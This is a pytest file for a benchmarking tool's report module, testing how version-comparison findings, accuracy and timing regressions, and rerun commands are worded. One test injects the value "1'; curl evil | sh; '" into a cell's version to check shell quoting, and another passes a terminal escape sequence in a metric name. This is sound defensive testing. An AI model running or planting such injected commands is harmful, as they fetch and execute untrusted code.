"""What a report says in sentences."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest

from runner.model import Better, Cell, Comparison, Evidence, Kind, Metric, Sample, Skip, Status, Verdict
from runner.report import Finding, Report, Severity, command
from runner.report.data import all_notes
from runner.report.failures import not_measured
from runner.report.findings import findings, none_found
from runner.report.table import tables

OLD = Cell("torch", "2.2.2", "3.11.3", "3.11", "cpu")
NEW = Cell("torch", "2.15.0", "3.11.3", "3.11", "cpu")


def texts(report: Report) -> list[str]:
    return [f.sentence for f in findings(report)]


def two_cells(*comparisons: Comparison) -> Report:
    metrics = (
        Metric("free.step_s", 0.1, Kind.TIMING, Better.LOWER, "s"),
        Metric("free.images_per_s", 1280.0, Kind.TIMING, Better.HIGHER, "images/s"),
        Metric("free.test_accuracy", 0.98, Kind.SEEDED, Better.HIGHER),
        Metric("controlled.loss_per_step", [1.0], Kind.TRAJECTORY),
    )
    samples = tuple(Sample(c, c.id, "mnist", {}, 0, 0, "host", Status.OK, "", metrics) for c in (OLD, NEW))
    return Report(samples, comparisons)


def judged(metric: str, verdict: Verdict, effect: float | None = None, **more: Any) -> Comparison:
    evidence = Evidence(n=5, effect=effect, low=0.2 if effect else None, high=0.4 if effect else None)
    comparison = Comparison(OLD.id, NEW.id, "version", "mnist", metric, verdict, "the reason", evidence)
    return replace(comparison, **more)


def test_findings_come_worst_first(quick: Report) -> None:
    severities = [f.severity for f in findings(quick)]
    assert severities == sorted(severities)
    assert severities[0] is Severity.BROKEN
    assert {Severity.REGRESSED, Severity.UNDECIDED, Severity.EXPECTED, Severity.DIFFERENT} <= set(severities)


def test_an_import_that_fails_in_every_probe_is_one_finding(quick: Report) -> None:
    found = [f for f in findings(quick) if "does not import" in f.text]
    assert len(found) == 1
    assert found[0].severity is Severity.EXPECTED
    assert found[0].sentence == (
        "torch 2.2.2 with keras 3.15.1 does not import (keras 3.11.3 does): TypeError: register_pytree_node() got an "
        "unexpected keyword argument 'flatten_with_keys_fn'. Report: https://github.com/keras-team/keras/issues/20713"
    )


def test_a_crash_names_the_probe_and_what_works(quick: Report) -> None:
    assert texts(quick)[0] == (
        "jax 0.10.2 with keras 3.8.0 crashes in mnist (keras 3.11.3 works): exit code 139 (SIGSEGV)"
    )


def test_slower_steps_and_fewer_images_are_one_finding() -> None:
    report = two_cells(
        judged("free.images_per_s", Verdict.REGRESSED, -0.236),
        judged("free.step_s", Verdict.REGRESSED, 0.31, packages=("numpy 1.26.4 -> 2.4.6",)),
    )
    (found,) = findings(report)
    assert found.text == "torch 2.15.0 with keras 3.11.3 takes 1.31 times as long per step as torch 2.2.2"
    assert found.details == (
        "Compared run by run, over 5 runs: 1.20 to 1.40 times.",
        "With it: images/s ×0.76.",
        "Other packages that differ: numpy 1.26.4 -> 2.4.6.",
    )


def test_an_improvement_is_the_same_sentence_with_a_smaller_ratio_and_no_command() -> None:
    faster = judged("free.step_s", Verdict.IMPROVED, -0.5)
    faster = replace(faster, evidence=replace(faster.evidence, low=-0.6, high=-0.375))
    (found,) = findings(two_cells(faster))
    assert found.text == "torch 2.15.0 with keras 3.11.3 takes 0.50 times as long per step as torch 2.2.2"
    assert found.details == ("Compared run by run, over 5 runs: 0.40 to 0.62 times.",)
    assert (found.severity, found.commands) == (Severity.IMPROVED, ())


def test_accuracy_is_told_in_two_figures_and_a_miracle_is_doubted() -> None:
    worse = judged("free.test_accuracy", Verdict.REGRESSED, -0.1, baseline_value=0.98, candidate_value=0.88)
    better = replace(worse, verdict=Verdict.IMPROVED, evidence=Evidence(n=5, effect=0.01), candidate_value=0.99)
    (found,) = findings(two_cells(worse))
    assert found.text == "torch 2.15.0 with keras 3.11.3 reaches 88.00 % test accuracy - torch 2.2.2 98.00 %"
    assert found.details == ("10 points lower (5 runs each).",)
    (found,) = findings(two_cells(better))
    assert found.details == ("1.0 points higher (5 runs each). Unexpectedly good: check that it is real.",)


def test_an_exact_figure_is_told_by_the_judges_reason() -> None:
    comparison = judged("controlled.loss_per_step", Verdict.REGRESSED, reason="diverges at step 3")
    assert texts(two_cells(comparison)) == [
        (
            "torch 2.15.0 with keras 3.11.3 computes other losses than torch 2.2.2 from equal weights and batches: "
            "diverges at step 3"
        )
    ]


def test_an_error_without_a_baseline_is_reported_too() -> None:
    comparison = replace(judged("controlled.loss_per_step", Verdict.BROKEN), baseline="", axis="")
    assert findings(two_cells(comparison))[0].severity is Severity.BROKEN
    assert texts(two_cells(comparison)) == ["torch 2.15.0 with keras 3.11.3 is off in loss per step: the reason"]


def test_a_difference_that_gates_nothing_is_no_regression() -> None:
    found = findings(two_cells(judged("free.step_s", Verdict.REGRESSED, 0.31, gates=False)))
    assert [f.severity for f in found] == [Severity.DIFFERENT]
    assert "no regression" in found[0].severity.mark.meaning
    assert found[0].commands == ()


def test_an_expected_failure_that_is_gone_asks_for_an_update() -> None:
    gone = judged("status", Verdict.FIXED, issue="https://example.org/1")
    found = findings(two_cells(gone))
    assert [f.severity for f in found] == [Severity.FIXED]
    assert found[0].sentence.endswith("update the expectations. See: https://example.org/1")


def test_undecided_comparisons_say_how_many_rounds_would_do() -> None:
    evidence = Evidence(n=5, rounds_needed=4)
    open_ = replace(judged("free.step_s", Verdict.INCONCLUSIVE, reason=""), evidence=evidence)
    report = two_cells(open_, judged("free.test_accuracy", Verdict.SAME, 0.0))
    assert texts(report) == ["1 of 2 compared figures: step time; about 4 more runs of each would decide"]
    one = replace(open_, evidence=replace(evidence, rounds_needed=1))
    assert texts(two_cells(one)) == ["1 of 1 compared figure: step time; about 1 more run of each would decide"]
    half = (one, replace(one, metric="peak_rss_bytes", evidence=Evidence(n=5), reason="other work ran meanwhile"))
    assert texts(two_cells(*half)) == [
        (
            "2 of 2 compared figures: step time, peak memory; about 1 more run of each would decide 1 of them; "
            "the others: other work ran meanwhile"
        )
    ]


def test_what_more_rounds_do_not_mend_says_why() -> None:
    report = two_cells(judged("free.step_s", Verdict.INCONCLUSIVE, reason="other work ran meanwhile"))
    assert texts(report) == ["1 of 1 compared figure: step time; all of them: other work ran meanwhile"]


def test_only_headline_figures_are_counted_as_undecided() -> None:
    other = judged("free.images_per_s", Verdict.INCONCLUSIVE, reason="")
    assert texts(two_cells(other)) == []
    conv = replace(other, probe="conv2d", metric="small.time_s")
    assert texts(two_cells(conv, other, judged("free.step_s", Verdict.SAME, 0.01))) == []
    assert texts(two_cells(conv)) == ["1 of 1 compared figure: time"]


def test_several_probes_have_one_line_about_what_is_undecided(quick: Report) -> None:
    open_ = judged("free.step_s", Verdict.INCONCLUSIVE, reason="")
    lstm = replace(open_, probe="lstm", metric="step_s")
    found = [f for f in findings(two_cells(open_, lstm)) if f.severity is Severity.UNDECIDED]
    assert [f.text for f in found] == ["2 of 2 compared figures: step time"]
    assert sum(f.severity is Severity.UNDECIDED for f in findings(quick)) == 1


def test_a_cell_that_disagrees_with_itself_is_not_blamed_on_a_version() -> None:
    evidence = Evidence(n=2, classification="nondeterministic")
    unsteady = replace(judged("free.step_s", Verdict.NOT_COMPARABLE), evidence=evidence)
    found = findings(two_cells(unsteady))
    assert [f.severity for f in found] == [Severity.INCOMPARABLE]
    assert "repeated runs disagree" in found[0].text


def test_figures_that_cannot_be_compared_share_a_line_per_reason() -> None:
    apart = [judged(m, Verdict.NOT_COMPARABLE, reason="host differs") for m in ("free.step_s", "free.images_per_s")]
    assert texts(two_cells(*apart)) == ["1 cell not comparable with the baseline in step time, images/s: host differs"]


def test_nothing_to_say_where_all_is_the_same() -> None:
    assert findings(two_cells(judged("free.step_s", Verdict.SAME, 0.01), judged("status", Verdict.SAME))) == ()


@pytest.mark.parametrize("status", [s for s in Status if s.about_cell and s not in (Status.OK, Status.UNSUPPORTED)])
def test_a_failure_is_told_even_without_a_baseline(status: Status) -> None:
    report = two_cells()
    failed = replace(report.samples[1], status=status, reason="why", metrics=())
    found = findings(replace(report, samples=(report.samples[0], failed)))
    assert [f.severity for f in found] == [Severity.FAILED]
    assert "why" in found[0].text


def test_a_hundred_cells_with_one_error_are_one_finding() -> None:
    cells = [replace(NEW, keras=f"3.{n}.0") for n in range(100)]
    samples = tuple(
        Sample(c, c.id, "mnist", {}, 0, 0, "host", Status.IMPORT_FAILED, "no module named jax") for c in cells
    )
    found = findings(Report(samples, ()))
    assert len(found) == 1
    assert len(found[0].cells) == 100
    assert "96 more cells do not import" in found[0].text


def test_what_could_not_be_measured_is_grouped_by_reason(quick: Report) -> None:
    gpu = [Skip(replace(NEW, device="cuda", keras=f"3.{n}.0"), Status.UNAVAILABLE, "no GPU") for n in range(6)]
    lines = not_measured(replace(quick, skips=tuple(gpu)))
    assert len(lines) == 2
    assert lines[0].endswith("and 2 more cells: unavailable: no GPU")
    assert "unsupported: mnist: fit is not implemented" in lines[1]


def test_findings_from_elsewhere_take_their_place(quick: Report) -> None:
    extra = Finding(Severity.BROKEN, "a defect of a sweep", ("x",), weight=1e9)
    assert findings(replace(quick, extra=(extra,)))[0] == extra


def test_the_report_states_the_error_rate_and_over_how_much_it_is_kept() -> None:
    step = judged("free.step_s", Verdict.SAME, 0.01)
    step = replace(step, evidence=replace(step.evidence, p_adjusted=0.2))
    seeded = replace(step, metric="free.test_accuracy")
    noted = all_notes(replace(two_cells(step, seeded), alpha=0.05))
    assert noted == ["Timing comparisons corrected together (Holm): 1; a false alarm among them in at most 5 % of runs"]
    assert all_notes(two_cells(step)) == []


def test_the_command_runs_one_cell_again(quick: Report) -> None:
    assert command(NEW, quick, "mnist") == (
        "python -m runner matrix --only 'torch-2.15.0_keras-3.11.3_py3.11_cpu' --probe mnist --fresh --rounds 12"
    )
    assert "--probe mnist --probe conv2d" in command(NEW, quick)


def test_a_hostile_cell_id_cannot_leave_its_quotes(quick: Report) -> None:
    hostile = replace(NEW, version="1'; curl evil | sh; '")
    assert "--only 'torch-1'\"'\"'; curl evil | sh; '\"'\"'_keras" in command(hostile, quick)


def test_processes_that_this_machine_lost_are_told_beside_those_that_ran() -> None:
    (ran, *_) = two_cells().samples
    lost = replace(ran, round=1, status=Status.UNAVAILABLE, reason="the Docker engine stopped answering", metrics=())
    assert not_measured(Report((ran, lost), ())) == (
        "torch 2.2.2 with keras 3.11.3: unavailable: mnist: 1 of 2 processes: the Docker engine stopped answering",
    )


def test_cells_that_an_outage_stopped_are_one_entry_and_their_rows_have_no_reason() -> None:
    (ran, *_) = two_cells().samples
    lost = [
        replace(ran, cell=cell, probe=probe, status=Status.UNAVAILABLE, reason="it is out: mend it", metrics=())
        for cell in (OLD, NEW)
        for probe in ("mnist", "conv2d")
    ]
    report = Report(tuple(lost), ())
    assert not_measured(report) == (
        (
            "torch 2.2.2 with keras 3.11.3 and torch 2.15.0 with keras 3.11.3: unavailable: mnist and conv2d: "
            "it is out: mend it"
        ),
    )
    assert [(row.status, row.reason) for table in tables(report) for row in table.rows] == [("unavailable", "")] * 4


def test_where_nothing_was_compared_no_difference_is_claimed() -> None:
    assert "no difference" in none_found(two_cells(judged("free.step_s", Verdict.SAME)))
    for alone in (two_cells(), two_cells(judged("free.step_s", Verdict.NOT_COMPARABLE))):
        assert none_found(alone) == "None: nothing could be compared."


# --- causes, neighbours, commands ------------------------------------------------------------------------------------

TF = Cell("tensorflow", "2.21.0", "3.11.3", "3.11", "cpu")
JAX = Cell("jax", "0.10.2", "3.11.3", "3.11", "cpu")
ACCURACY = "free.test_accuracy"


def trained(cell: Cell, accuracy: float, **more: Any) -> Sample:
    metrics = (
        Metric(ACCURACY, accuracy, Kind.SEEDED, Better.HIGHER),
        Metric("free.step_s", 0.1, Kind.TIMING, Better.LOWER, "s"),
        Metric("controlled.loss_per_step", [1.0], Kind.TRAJECTORY),
    )
    return Sample(cell, cell.id, "mnist", {}, 0, 0, "host", Status.OK, "", metrics, **more)


def learns(baseline: Cell, candidate: Cell, verdict: Verdict, before: float, after: float) -> Comparison:
    axis = "framework" if baseline.framework != candidate.framework else "version"
    evidence = Evidence(n=5, effect=after / before - 1)
    return Comparison(
        baseline.id, candidate.id, axis, "mnist", ACCURACY, verdict, "", evidence,
        baseline_value=before, candidate_value=after,
    )  # fmt: skip


FAULTY = (
    learns(TF, OLD, Verdict.REGRESSED, 0.99, 0.88),
    learns(OLD, NEW, Verdict.IMPROVED, 0.88, 0.9935),
    learns(TF, JAX, Verdict.SAME, 0.99, 0.991),
    learns(TF, NEW, Verdict.SAME, 0.99, 0.9935),
)
"""torch 2.2.2 learns to 88 %: it is the candidate of one comparison and the baseline of another."""


def faulty(*comparisons: Comparison) -> Report:
    figures = ((TF, 0.99), (OLD, 0.88), (JAX, 0.991), (NEW, 0.9935))
    return Report(tuple(trained(cell, accuracy) for cell, accuracy in figures), (*FAULTY, *comparisons))


def test_what_is_better_than_a_faulty_baseline_is_a_neighbour_in_the_finding_about_it() -> None:
    (found,) = findings(faulty())
    assert found.severity is Severity.REGRESSED
    assert found.text == (
        "torch 2.2.2 with keras 3.11.3 reaches 88.00 % test accuracy - "
        "tensorflow 2.21.0 99.00 %, jax 0.10.2 99.10 %, torch 2.15.0 99.35 %"
    )
    sound = (FAULTY[1], *FAULTY[2:])
    assert [f.severity for f in findings(replace(faulty(), comparisons=sound))] == [Severity.IMPROVED]


def test_a_neighbour_that_is_worse_too_is_not_named() -> None:
    (found, other) = findings(faulty(learns(TF, replace(JAX, version="0.9.0"), Verdict.REGRESSED, 0.99, 0.7)))
    assert "0.9.0" not in found.text.partition(" - ")[2]
    assert "0.9.0" not in other.text.partition(" - ")[2]
    worse = tuple(replace(c, verdict=Verdict.REGRESSED) if c.candidate == JAX.id else c for c in FAULTY)
    texts_ = texts(replace(faulty(), comparisons=worse))
    assert not any("jax 0.10.2 99.10 %, " in text or text.endswith("jax 0.10.2 99.10 %") for text in texts_)


def test_of_many_neighbours_three_are_named_and_the_rest_counted() -> None:
    more = tuple(trained(replace(NEW, version=f"2.{n}.0"), 0.99) for n in range(3, 8))
    report = faulty()
    (found,) = findings(replace(report, samples=(*report.samples, *more)))
    assert found.text.endswith("jax 0.10.2 99.10 %, torch 2.15.0 99.35 %, torch 2.3.0 99.00 % and 4 more like it")


def test_the_neighbours_of_a_slow_cell_are_of_its_own_framework() -> None:
    slow = judged("free.step_s", Verdict.REGRESSED, 0.31, baseline_value=0.1, candidate_value=0.131)
    cells = (OLD, NEW, replace(NEW, version="2.9.0"), JAX, TF)
    (text,) = texts(Report(tuple(trained(cell, 0.99) for cell in cells), (slow,)))
    assert text.endswith("131 ms against 100 ms, torch 2.9.0 100 ms")


@pytest.mark.parametrize(
    ("verdict", "said"),
    [
        (
            Verdict.SAME,
            (
                "From equal weights and batches, without dropout, it follows tensorflow 2.21.0 in every step: not the "
                "arithmetic. Suspect dropout, initial weights or the order of the data."
            ),
        ),
        (
            Verdict.REGRESSED,
            (
                "From equal weights and batches, without dropout, it leaves tensorflow 2.21.0 at the first step: the "
                "arithmetic differs."
            ),
        ),
        (Verdict.INCONCLUSIVE, ""),
    ],
)
def test_a_worse_accuracy_says_what_the_controlled_training_did(verdict: Verdict, said: str) -> None:
    controlled = replace(FAULTY[0], metric="controlled.loss_per_step", verdict=verdict, evidence=Evidence())
    found = next(f for f in findings(faulty(controlled)) if "test accuracy" in f.text)
    assert [detail for detail in found.details if "equal weights" in detail] == ([said] if said else [])
    unrelated = replace(controlled, baseline=OLD.id, candidate=NEW.id)
    (found, *_) = [f for f in findings(faulty(unrelated)) if "test accuracy" in f.text]
    assert not any("equal weights" in detail for detail in found.details)


@pytest.mark.parametrize(
    ("verdict", "said"),
    [(Verdict.SAME, "follows tensorflow 2.21.0 for 63 steps:"), (Verdict.REGRESSED, "leaves tensorflow 2.21.0 after")],
)
def test_the_controlled_training_says_how_many_steps_it_took(verdict: Verdict, said: str) -> None:
    controlled = replace(FAULTY[0], metric="controlled.loss_per_step", verdict=verdict, evidence=Evidence(steps=63))
    found = next(f for f in findings(faulty(controlled)) if "test accuracy" in f.text)
    assert any(f" it {said}" in detail for detail in found.details)
    assert any("63 steps" in detail for detail in found.details)


def test_a_worse_accuracy_says_how_far_runs_with_other_seeds_differ() -> None:
    worse = replace(FAULTY[0], evidence=Evidence(n=1, effect=-0.11, spread=0.004))
    found = next(f for f in findings(replace(faulty(), comparisons=(worse, *FAULTY[1:]))) if "88.00" in f.text)
    assert found.details == ("11 points lower; runs with other seeds differ by about 0.40 points (1 run each).",)


def test_only_what_got_worse_has_commands(quick: Report) -> None:
    worse = (Severity.BROKEN, Severity.REGRESSED, Severity.FAILED)
    assert all(bool(f.commands) == (f.severity in worse) for f in findings(quick))


def test_a_worse_figure_against_two_baselines_is_one_finding() -> None:
    against = learns(TF, NEW, Verdict.REGRESSED, 0.99, 0.7)
    near = learns(OLD, NEW, Verdict.REGRESSED, 0.98, 0.7)
    samples = tuple(trained(cell, accuracy) for cell, accuracy in ((TF, 0.99), (OLD, 0.98), (NEW, 0.7)))
    (found,) = findings(Report(samples, (against, near)))
    assert found.text.endswith("reaches 70.00 % test accuracy - torch 2.2.2 98.00 %, tensorflow 2.21.0 99.00 %")
    assert "Against tensorflow 2.21.0: test accuracy −29.00 pts." in found.details


@pytest.mark.parametrize(
    ("issue", "said"),
    [
        ("https://github.com/keras-team/keras/pull/21661", "Change: "),
        ("https://github.com/keras-team/keras/issues/20713", "Report: "),
        ("https://example.org/1", "See: "),
    ],
)
def test_an_address_says_what_it_is_of(issue: str, said: str) -> None:
    assert Finding(Severity.EXPECTED, "it fails", (), issue).sentence == f"it fails. {said}{issue}"


def test_a_damaged_invocation_costs_the_options_of_commands_only() -> None:
    worse = judged("free.step_s", Verdict.REGRESSED, 0.31)
    (found,) = findings(replace(two_cells(worse), invocation="--out 'unbalanced"))
    assert found.commands


def test_hostile_metric_names_do_not_reach_the_terminal() -> None:
    hostile = judged("free.evil\x1b[31m_s", Verdict.NOT_COMPARABLE, reason="differs in host")
    assert "\x1b" not in "".join(texts(two_cells(hostile)))
